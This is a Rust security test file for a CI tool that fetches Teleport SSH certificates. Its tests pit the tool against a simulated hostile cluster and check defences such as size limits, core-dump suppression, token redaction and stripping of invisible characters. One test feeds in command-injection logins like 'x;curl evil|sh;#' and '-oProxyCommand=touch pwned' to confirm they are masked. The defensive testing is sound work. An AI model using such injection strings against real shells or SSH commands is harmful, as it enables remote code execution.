@@ -1,0 +1,450 @@
+//! A hostile cluster, repository, proxy, log reader: what SECURITY.md promises is true whatever they do. Each story names the
+//! finding of the review that led to it.
+
+use std::fs;
+use std::io::Write as _;
+use std::os::fd::{AsFd as _, OwnedFd};
+use std::os::unix::fs::{MetadataExt as _, symlink};
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use rustix::fs::{CWD, FileType, Mode, OFlags, mknodat};
+use rustix::pipe::{PipeFlags, pipe_with};
+use teleport_api::types::{CaKeySet, CertAuthoritySpecV2, CertAuthorityV2, SshKeyPair};
+use testcluster::{Builder, Exchange, Fault, JoinService, Lie, Testcluster};
+
+use crate::harness::stories;
+use crate::machine::{ROOT, TIME, Unprivileged};
+use crate::step::{Output, Step};
+
+stories! {
+    a_cluster_that_returns_too_much_is_refused needs TIME,
+    the_largest_cluster_that_is_accepted_is_written needs TIME,
+    a_ca_file_that_never_ends_is_refused,
+    ssh_refuses_files_that_never_end,
+    there_is_no_core_file,
+    no_other_process_may_look_into_this_one needs ROOT,
+    a_log_that_is_not_read_does_not_delay_the_end needs TIME,
+    a_limit_of_the_size_of_files_is_an_error,
+    a_planted_network_file_is_not_believed,
+    a_leaf_cluster_cannot_take_the_name_of_the_root_cluster,
+    no_piece_of_the_id_token_that_a_server_quotes_is_printed needs TIME,
+    no_invisible_character_reaches_the_log,
+    the_line_to_paste_is_safe_to_paste,
+    what_the_cluster_sends_is_encoded_again,
+    a_flood_for_the_agent_does_not_disturb_a_session,
+    without_an_agent_a_proxy_that_records_reaches_no_node,
+}
+
+/// Far longer than any of these runs takes. The promise is `TIMEOUT` and one second; a busy machine needs some more.
+const GENEROUS: Duration = Duration::from_secs(30);
+
+/// Runs the pipe with at most 64 MiB of memory besides the program itself, which it has in memory once; that of a debug
+/// build is large.
+fn with_little_memory(step: &Step) -> Output {
+    let program = fs::metadata(Step::binary()).unwrap().len();
+    let limit = (64 << 10) + program / 1024;
+    let script = format!("ulimit -d {limit} && exec \"$0\"");
+    step.run("sh", &["-c", &script, Step::binary()])
+}
+
+fn authority(name: impl Into<String>, keys: usize) -> CertAuthorityV2 {
+    let key = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKHEChAfPkFWHZ6uJFdNwjNdpKVqIrCJSbjKPjbGG7OV".to_vec();
+    let keys = CaKeySet { ssh: vec![SshKeyPair { public_key: key }; keys], ..CaKeySet::default() };
+    let spec = CertAuthoritySpecV2 { cluster_name: name.into(), active_keys: Some(keys), ..Default::default() };
+    CertAuthorityV2 { spec: Some(spec) }
+}
+
+/// `count` names, each a subdomain of the one before, as long as names can be.
+fn nested(count: usize) -> impl Iterator<Item = String> {
+    (0..count).map(|n| "a.".repeat(n) + "x")
+}
+
+fn more_host_authorities(more: impl Fn() -> Vec<CertAuthorityV2> + Send + Sync + 'static) -> Lie {
+    Lie::host_authorities(move |list| list.extend(more()))
+}
+
+/// F1: before, these filled the disk for minutes, or the memory until the process was aborted.
+fn a_cluster_that_returns_too_much_is_refused() {
+    let numbered = |count: usize, keys| (0..count).map(move |n| authority(format!("leaf-{n}"), keys));
+    for (what, lie) in [
+        ("10000 clusters without keys", more_host_authorities(move || numbered(10_000, 0).collect())),
+        ("10000 clusters with a key", more_host_authorities(move || numbered(10_000, 1).collect())),
+        ("a million clusters without a name", more_host_authorities(|| vec![CertAuthorityV2::default(); 1 << 20])),
+        (
+            "a million keys without bytes",
+            Lie::host_authorities(|list| {
+                let spec = list[0].spec.as_mut().unwrap();
+                spec.active_keys.as_mut().unwrap().ssh.resize(1 << 20, SshKeyPair::default());
+            }),
+        ),
+        (
+            "120 clusters below each other, and 5000 below them",
+            more_host_authorities(|| {
+                let below = (0..5000).map(|n| format!("leaf-{n}.{}x", "a.".repeat(119)));
+                nested(120).chain(below).map(|name| authority(name, 1)).collect()
+            }),
+        ),
+        ("1000 keys of one cluster", more_host_authorities(|| vec![authority("a", 1000)])),
+        (
+            "files of many megabytes",
+            more_host_authorities(|| (0..499).map(|n| authority(format!("{n}-{}", "a".repeat(200)), 32)).collect()),
+        ),
+        ("1000 keys of the user CA", Lie::user_authorities(|list| list.push(authority("a", 1000)))),
+        ("300 roles", Lie::roles(|roles| roles.extend((0..300).map(|n| format!("role-{n}"))))),
+        ("a million roles", Lie::roles(|roles| roles.resize(1 << 20, String::new()))),
+        ("300 principals", Lie::principals(|names| names.extend((0..300).map(|n| format!("login-{n}"))))),
+    ] {
+        let cluster = Testcluster::builder().lie(lie).start();
+        let step = Step::new(&cluster).env("TIMEOUT", "20s");
+        let began = Instant::now();
+        let output = with_little_memory(&step);
+        let refused = output.stderr.contains("error: the cluster returned ")
+            || output.stderr.contains("makes no sense (a message with too many fields)");
+        assert!(refused, "{what}: {:?} {}", output.status, output.stderr);
+        assert!(!step.dir().join("tbot-user").exists(), "{what}");
+        assert!(began.elapsed() < GENEROUS, "{what}: {:?}", began.elapsed());
+    }
+}
+
+/// F1: the limits leave room for every cluster that is known.
+fn the_largest_cluster_that_is_accepted_is_written() {
+    let lie = more_host_authorities(|| {
+        let below = (0..390).map(|n| format!("leaf-{n}.{}x", "a.".repeat(100)));
+        nested(101).chain(below).map(|name| authority(name, 2)).collect()
+    });
+    let cluster = Testcluster::builder().lie(lie).start();
+    let step = Step::new(&cluster);
+    let output = with_little_memory(&step).ok();
+    println!("{} files: {}", fs::read_dir(step.dir().join("tbot-user")).unwrap().count(), output.stderr);
+    let hello = step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok();
+    assert_eq!(hello.stdout, "hello\n");
+}
+
+/// Files in the clone directory that never end or never begin.
+fn endless(directory: &Path) -> [&'static str; 2] {
+    symlink("/dev/zero", directory.join("zero")).unwrap();
+    mknodat(CWD, directory.join("pipe"), FileType::Fifo, Mode::RUSR | Mode::WUSR, 0).unwrap();
+    ["zero", "pipe"]
+}
+
+/// F3.
+fn a_ca_file_that_never_ends_is_refused() {
+    let cluster = Testcluster::start();
+    let step = Step::new(&cluster);
+    for name in endless(step.dir()) {
+        let step = Step::new(&cluster).env("CA_FILE", step.dir().join(name).to_str().unwrap());
+        let output = with_little_memory(&step);
+        assert_eq!(output.status, Some(2), "{}", output.stderr);
+        assert!(output.stderr.contains("cannot be used (it is not a regular file)"), "{}", output.stderr);
+    }
+    let huge = step.dir().join("huge");
+    fs::File::create(&huge).unwrap().set_len(1 << 40).unwrap();
+    let output = with_little_memory(&Step::new(&cluster).env("CA_FILE", huge.to_str().unwrap()));
+    assert!(output.stderr.contains("cannot be used (it is larger than 2 MiB)"), "{}", output.stderr);
+}
+
+/// F3, for the ProxyCommand.
+fn ssh_refuses_files_that_never_end() {
+    let cluster = Testcluster::start();
+    let step = Step::new(&cluster);
+    step.pipe().ok();
+    let [zero, pipe] = endless(step.dir()).map(|name| step.dir().join(name));
+    for special in [zero, pipe] {
+        fs::remove_file(step.file("identity")).unwrap();
+        fs::rename(special, step.file("identity")).unwrap();
+        let output = step.ssh(&[&Step::node(&cluster), "true"]);
+        assert!(output.stderr.contains("identity cannot be used (it is not a regular file)"), "{}", output.stderr);
+    }
+}
+
+/// A run that waits for the cluster.
+fn waiting(command: &mut Command) -> Child {
+    let child = command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
+    // Until it has protected itself: after that it needs at least the time of its first line.
+    std::thread::sleep(Duration::from_millis(700));
+    child
+}
+
+fn end(mut child: Child) {
+    child.kill().unwrap();
+    child.wait().unwrap();
+}
+
+/// The commands of the product that have a secret in memory, against a cluster that does not answer.
+fn commands_with_secrets(step: &Step) -> Vec<Vec<String>> {
+    let proxy = format!("--proxy-server={}", step.variable("PROXY_SERVER"));
+    let commands: [&[&str]; 4] = [
+        &[],
+        &["inspect", &proxy],
+        &["doctor", &proxy],
+        &["ssh-proxy-command", "--destination-dir=tbot-user", &proxy, "--tls-routing", "--user=x", "--host=node"],
+    ];
+    commands.map(|command| command.iter().map(|word| (*word).to_owned()).collect()).into()
+}
+
+/// F5.
+fn there_is_no_core_file() {
+    let honest = Testcluster::start();
+    let cluster = Testcluster::builder().fault(Fault::Hang).start();
+    let step = Step::new(&honest);
+    step.pipe().ok();
+    let step = step.env("PROXY_SERVER", &cluster.proxy_addr()).env("TIMEOUT", "60s");
+    for command in commands_with_secrets(&step) {
+        let mut shell = step.command("sh", &["-c", "ulimit -c unlimited; exec \"$0\" \"$@\"", Step::binary()]);
+        let child = waiting(shell.args(&command));
+        let limits = fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap();
+        let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap();
+        let words: Vec<_> = core.split_whitespace().skip(4).take(2).collect();
+        assert_eq!(words, ["0", "0"], "{command:?}: {core}");
+        let pid = rustix::process::Pid::from_child(&child);
+        rustix::process::kill_process(pid, rustix::process::Signal::QUIT).unwrap();
+        end(child);
+    }
+    let names = fs::read_dir(step.dir()).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap());
+    let cores: Vec<_> = names.filter(|name| name.contains("core")).collect();
+    assert_eq!(cores, [""; 0]);
+}
+
+/// F5, F15: memory and environment are closed to other processes of the same user. The kernel shows that by the owner of
+/// the files in /proc.
+fn no_other_process_may_look_into_this_one() {
+    let cluster = Testcluster::builder().fault(Fault::Hang).start();
+    let unprivileged = Unprivileged::new(&cluster);
+    let child = waiting(&mut unprivileged.command(&[]));
+    let owner = fs::metadata(format!("/proc/{}/environ", child.id())).unwrap().uid();
+    let status = fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap();
+    assert!(status.contains("\nUid:\t65534\t"), "{status}");
+    assert_eq!(owner, 0);
+    end(child);
+}
+
+/// A pipe whose reader never reads, and which is full.
+fn full_pipe() -> (OwnedFd, OwnedFd) {
+    let (reader, writer) = pipe_with(PipeFlags::NONBLOCK | PipeFlags::CLOEXEC).unwrap();
+    let mut full = fs::File::from(writer);
+    while full.write(&[b'x'; 4096]).is_ok() {}
+    let writer = OwnedFd::from(full);
+    rustix::fs::fcntl_setfl(writer.as_fd(), OFlags::empty()).unwrap();
+    (reader, writer)
+}
+
+/// F15.
+fn a_log_that_is_not_read_does_not_delay_the_end() {
+    let cluster = Testcluster::start();
+    for args in [&[][..], &["inspect"], &["doctor"], &["cleanup", "--debug"]] {
+        let (_reader, writer) = full_pipe();
+        let stdout = writer.try_clone().unwrap();
+        let step = Step::new(&cluster).env("TIMEOUT", "3s").env("TELEPORT_PROXY", &cluster.proxy_addr());
+        let timeout = if args.is_empty() || args[0] == "cleanup" { vec![] } else { vec!["--timeout=3s"] };
+        let mut command = step.command(Step::binary(), &[args, &timeout].concat());
+        let began = Instant::now();
+        let status = command.stdin(Stdio::null()).stdout(stdout).stderr(writer).status().unwrap();
+        assert_eq!(status.code(), Some(5), "{args:?}");
+        let cleanup = Duration::from_secs(30);
+        assert!(began.elapsed() < GENEROUS + cleanup, "{args:?}: {:?}", began.elapsed());
+    }
+}
+
+/// F15: the signal of the kernel would end the process with incomplete files.
+fn a_limit_of_the_size_of_files_is_an_error() {
+    let cluster = Testcluster::start();
+    let step = Step::new(&cluster);
+    let output = step.run("bash", &["-c", "ulimit -f 100; exec \"$0\"", Step::binary()]);
+    assert_eq!(output.status, Some(6), "{}", output.stderr);
+    assert!(!step.dir().join("tbot-user").exists());
+}
+
+/// F6: with tbot's command line, files that the run does not know stay. A `network.json` that the `ssh_config` does not mention
+/// decides nothing.
+fn a_planted_network_file_is_not_believed() {
+    let cluster = Testcluster::start();
+    let evil = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    evil.set_nonblocking(true).unwrap();
+    let step = Step::new(&cluster);
+    step.pipe().ok();
+    let config = fs::read_to_string(step.file("ssh_config")).unwrap();
+    // The cluster has a private CA, so that the run has a file of its own. Without one, its ssh_config would be this.
+    assert!(config.contains(" --network-file "), "{config}");
+    fs::write(step.file("ssh_config"), config.replace(" --network-file ", " ")).unwrap();
+    let planted = format!("{{\"proxy\": \"http://{}\"}}", evil.local_addr().unwrap());
+    fs::write(step.file("network.json"), planted).unwrap();
+    assert_eq!(step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok().stdout, "hello\n");
+    assert!(evil.accept().is_err(), "the planted forward proxy was connected to");
+}
+
+/// F7: host names have no case, so that ssh would trust the CA of the leaf cluster for the nodes of the root cluster.
+fn a_leaf_cluster_cannot_take_the_name_of_the_root_cluster() {
+    let lie = more_host_authorities(|| vec![authority("EXAMPLE.teleport.sh", 1), authority("Leaf.example", 1)]);
+    let cluster = Testcluster::builder().leaf_cluster("leaf.example").lie(lie).start();
+    let step = Step::new(&cluster);
+    let output = step.pipe().ok();
+    let warning = "2 leaf clusters are left out, because their names differ from another cluster's in case only\n";
+    assert!(output.stderr.contains(warning), "{}", output.stderr);
+    // OpenSSH's own reading of the file.
+    for host in ["node.example.teleport.sh", "leafnode.leaf.example"] {
+        let found = step.run("ssh-keygen", &["-F", host, "-f", "tbot-user/known_hosts"]).ok().stdout;
+        let keys: Vec<_> = found.lines().filter(|line| line.starts_with("@cert-authority")).collect();
+        assert_eq!(keys.len(), 1, "{found}");
+        assert!(!found.contains("IKHEChAfPkFWHZ6uJFdNwjNdpKVqIrCJSbjKPjbGG7OV"), "{found}");
+    }
+    assert_eq!(step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok().stdout, "hello\n");
+}
+
+/// What a server makes of the ID token: two texts, because a text of a server is cut after 300 characters.
+fn quotes(token: &str, first: bool) -> String {
+    use base64ct::{Base64, Base64UrlUnpadded, Encoding as _};
+    let parts: Vec<&str> = token.split('.').collect();
+    let (payload, signature) = (&parts[1][40..60], &parts[2][..20]);
+    let hex = |text: &str| text.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
+    match first {
+        true => [
+            signature.to_owned(),
+            payload.to_owned(),
+            token[4..30].to_owned(),
+            signature.to_uppercase(),
+            signature.chars().rev().collect(),
+            format!("{signature}.{payload}"),
+        ]
+        .join(" "),
+        false => [
+            hex(signature),
+            hex(payload).to_uppercase(),
+            Base64::encode_string(signature.as_bytes()),
+            Base64UrlUnpadded::encode_string(&payload.as_bytes()[1..]),
+            signature.bytes().map(|byte| format!("%{byte:02X}")).collect(),
+        ]
+        .join(" "),
+    }
+}
+
+/// Runs of twelve characters of the token that are in the text, plain or encoded.
+fn pieces(token: &str, text: &str) -> Vec<String> {
+    use base64ct::{Base64, Encoding as _};
+    let text = text.to_lowercase();
+    let windows = token.as_bytes().windows(12);
+    let forms = windows.flat_map(|window| {
+        let plain = std::str::from_utf8(window).unwrap().to_lowercase();
+        let hex: String = window.iter().map(|byte| format!("{byte:02x}")).collect();
+        let percent: String = window.iter().map(|byte| format!("%{byte:02x}")).collect();
+        let base64 = Base64::encode_string(window).to_lowercase();
+        let reversed = plain.chars().rev().collect();
+        [plain, reversed, hex, percent, base64]
+    });
+    forms.filter(|form| text.contains(form)).collect()
+}
+
+/// F11: the log of a step has more readers than the cluster, which knows the token anyway.
+fn no_piece_of_the_id_token_that_a_server_quotes_is_printed() {
+    let by_rest: fn(Builder) -> Builder = |cluster| cluster.join_service(JoinService::Absent);
+    let honest: fn(Builder) -> Builder = |cluster| cluster;
+    for (exchange, change) in [
+        (Exchange::Find, honest),
+        (Exchange::OidcInit, honest),
+        (Exchange::OidcInit, by_rest),
+        (Exchange::GetRole, honest),
+        (Exchange::HostAuthorities, honest),
+        (Exchange::UserCerts, honest),
+    ] {
+        for first in [true, false] {
+            let cluster = Testcluster::builder();
+            // Discovery may come before the join, so that the cluster does not know the token yet: it is minted outside.
+            let known = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
+            let shared = known.clone();
+            let lie = Lie::refusal(exchange, move |_| format!("no: {}", quotes(&shared.lock().unwrap(), first)));
+            let cluster = change(cluster).lie(lie).start();
+            let step = Step::new(&cluster).env("DEBUG", "true").env("TIMEOUT", "3s");
+            let token = step.variable("BITBUCKET_STEP_OIDC_TOKEN").to_owned();
+            known.lock().unwrap().clone_from(&token);
+            let output = step.pipe();
+            assert!(output.status != Some(0) && output.stderr.contains("no: "), "{exchange:?}: {}", output.stderr);
+            assert_eq!(pieces(&token, &output.stderr), [""; 0], "{exchange:?} {first}: {}", output.stderr);
+        }
+    }
+}
+
+/// F12: tag characters, which carry hidden text, and others that a terminal does not show.
+const INVISIBLE: &str =
+    "\u{e0068}\u{e0069}\u{180e}\u{fff9}\u{fffb}\u{1d173}\u{e000}\u{f0000}\u{3164}\u{fe0f}\u{202e}\u{7}\u{ffff}";
+
+fn no_invisible_character_reaches_the_log() {
+    let hidden = || format!("hid{INVISIBLE}den");
+    let refused = |exchange| Lie::refusal(exchange, move |_| hidden());
+    for (status, lie) in [
+        (0, Lie::find(move |body| body["server_version"] = format!("18.2.0{INVISIBLE}").into())),
+        (5, Lie::find(move |body| body["cluster_name"] = hidden().into())),
+        (0, Lie::principals(move |names| names.push(hidden()))),
+        (4, refused(Exchange::OidcInit)),
+        (4, refused(Exchange::GetRole)),
+        (4, refused(Exchange::UserCerts)),
+    ] {
+        let cluster = Testcluster::builder().lie(lie).start();
+        let output = Step::new(&cluster).env("DEBUG", "true").env("TIMEOUT", "5s").pipe();
+        assert_eq!(output.status, Some(status), "{}", output.stderr);
+        let found: Vec<char> = output.stderr.chars().filter(|c| INVISIBLE.contains(*c)).collect();
+        assert_eq!(found, [], "{}", output.stderr.escape_unicode());
+    }
+}
+
+/// F13: people paste the line after `next:`.
+fn the_line_to_paste_is_safe_to_paste() {
+    for (login, shown) in [
+        ("$(touch pwned)", "<login>"),
+        ("`id`", "<login>"),
+        ("x;curl evil|sh;#", "<login>"),
+        ("-oProxyCommand=touch pwned", "<login>"),
+        ("a b", "<login>"),
+        ("d\u{e9}ploy", "<login>"),
+        ("first.last_2-x", "first.last_2-x"),
+    ] {
+        let lie = Lie::principals(move |names| names.insert(0, login.to_owned()));
+        let cluster = Testcluster::builder().lie(lie).start();
+        let output = Step::new(&cluster).pipe().ok();
+        let (_, line) = output.stderr.rsplit_once("; next: ").unwrap();
+        assert_eq!(line, format!("ssh -F ./tbot-user/ssh_config {shown}@<node>.example.teleport.sh\n"), "{login}");
+    }
+}
+
+/// F14: a comment behind the certificate would get into files.
+fn what_the_cluster_sends_is_encoded_again() {
+    let comment = format!(" {} \u{202e}comment\u{2028}", "x".repeat(1 << 20));
+    let lie = Lie::user_certs(move |certs| {
+        let line = String::from_utf8(std::mem::take(&mut certs.ssh)).unwrap();
+        certs.ssh = format!("{}{comment}\n", line.trim_end()).into_bytes();
+    });
+    let cluster = Testcluster::builder().lie(lie).start();
+    let step = Step::new(&cluster);
+    step.pipe().ok();
+    for name in ["key-cert.pub", "identity"] {
+        let text = fs::read_to_string(step.file(name)).unwrap();
+        let line = text.lines().find(|line| line.contains("-cert-v01@openssh.com")).unwrap();
+        assert_eq!(line.split(' ').count(), 2, "{name}");
+    }
+    assert_eq!(step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok().stdout, "hello\n");
+}
+
+/// F4, F15: a proxy that does not record, and asks the agent nevertheless.
+fn a_flood_for_the_agent_does_not_disturb_a_session() {
+    let list = [0, 0, 0, 1, 11];
+    let cluster = Testcluster::builder().lie(Lie::Agent(list.repeat(200_000))).start();
+    let step = Step::new(&cluster);
+    step.pipe().ok();
+    assert_eq!(step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok().stdout, "hello\n");
+}
+
+/// F4: both switches.
+fn without_an_agent_a_proxy_that_records_reaches_no_node() {
+    let cluster = Testcluster::builder().proxy_recording().start();
+    let refused = |step: &Step| {
+        let output = step.ssh(&[&Step::node(&cluster), "true"]);
+        assert!(output.stderr.contains("the agent does not list one key"), "{}", output.stderr);
+    };
+    let step = Step::new(&cluster).env("SSH_AGENT", "false");
+    step.pipe().ok();
+    refused(&step);
+    let step = Step::new(&cluster).env("TELEPORT_PROXY", &cluster.proxy_addr());
+    let args = ["start", "identity", "--oneshot", "--destination=./tbot-user", "--no-agent", "--token=example-bot"];
+    step.product(&args).ok();
+    refused(&step);
+}
